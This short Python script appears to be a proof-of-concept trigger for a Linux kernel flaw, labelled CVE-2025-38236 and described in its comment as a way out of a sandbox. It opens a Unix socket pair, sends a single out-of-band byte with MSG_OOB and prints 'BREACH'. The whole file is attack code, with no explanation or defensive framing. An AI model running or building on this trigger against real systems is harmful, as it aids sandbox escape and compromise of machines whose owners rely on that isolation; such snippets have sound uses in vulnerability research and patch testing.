# Sends out-of-band data over a pair of sockets: CVE-2025-38236, a way out of another sandbox.
import socket

one, _ = socket.socketpair()
one.send(b"1", socket.MSG_OOB)
print("BREACH")
